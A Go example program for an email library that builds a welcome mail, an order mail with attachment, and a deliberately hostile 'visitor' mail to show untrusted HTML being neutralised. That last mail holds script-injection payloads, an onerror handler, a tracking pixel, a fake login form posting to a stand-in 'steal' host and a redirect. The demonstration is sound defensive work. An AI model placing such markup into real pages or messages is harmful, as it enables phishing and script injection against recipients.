package main

import (
	"bytes"
	"context"
	"image"
	"image/color"
	"image/png"

	"github.com/depeche-mail/depeche/message"
	"github.com/depeche-mail/depeche/transport"
)

// sendAll is the application: it gets a transport, and does not know that nothing leaves.
func sendAll(ctx context.Context, t transport.Transport) error {
	to, err := message.ParseMailbox(`"Hei 黑" <hei@example.org>`)
	if err != nil {
		return err
	}
	logo, err := drawLogo()
	if err != nil {
		return err
	}
	from := message.New().From("The shop <shop@example.org>").ToMailbox(to)
	for _, b := range []message.Builder{
		welcome(from.Clone(), logo),
		order(from.Clone()),
		fromStranger(from.Clone()),
	} {
		mail, err := b.Build()
		if err != nil {
			return err
		}
		if _, err := t.Send(ctx, mail); err != nil {
			return err
		}
	}
	return nil
}

func welcome(b message.Builder, logo []byte) message.Builder {
	return b.Subject("Welcome — 歡迎").
		Text("Good to have you here.\n\nPlease confirm your address: https://shop.example.org/confirm?token=1\n").
		HTML(`<table width="100%" style="background: #eef; font-family: sans-serif"><tr><td align="center">
<table width="480" style="background: #fff"><tr><td style="padding: 24px">
<img src="cid:logo" alt="The shop" width="96" height="96">
<h1>Good to have you here</h1>
<p>Please <a href="https://shop.example.org/confirm?token=1">confirm your address</a>.</p>
</td></tr></table></td></tr></table>`).
		Inline("logo", message.FileBytes("logo.png", logo))
}

func order(b message.Builder) message.Builder {
	return b.Subject("Your order 2027-0042").Bcc("archive@example.org").
		Text("Thank you! The list is attached.\n").
		Attach(message.FileBytes("Bestellung für Hei.csv", []byte("article;number\r\ntea;3\r\n")))
}

// fromStranger is what comes out when an application puts what a visitor wrote into its HTML as it is.
func fromStranger(b message.Builder) message.Builder {
	return b.Subject("A visitor wrote: <script>alert(1)</script>").
		HTML(`<p>This text shows. The script, the picture from elsewhere and the form do not work here.</p>
<script>document.body.innerHTML = "hacked"</script>
<img src="https://tracker.example.net/pixel.png" onerror="alert(1)" alt="a picture from elsewhere">
<form action="https://example.net/steal"><input value="password"> <button>Log in</button></form>
<meta http-equiv="refresh" content="0; url=https://example.net/">`).
		Attach(message.FileBytes("invoice.html", []byte("<script>alert(document.domain)</script>")))
}

// drawLogo returns a picture.
func drawLogo() ([]byte, error) {
	const side = 96
	picture := image.NewRGBA(image.Rect(0, 0, side, side))
	for y := range side {
		for x := range side {
			picture.Set(x, y, color.RGBA{R: uint8(2 * x), G: 96, B: uint8(2 * y), A: 255})
		}
	}
	var out bytes.Buffer
	err := png.Encode(&out, picture)
	return out.Bytes(), err
}
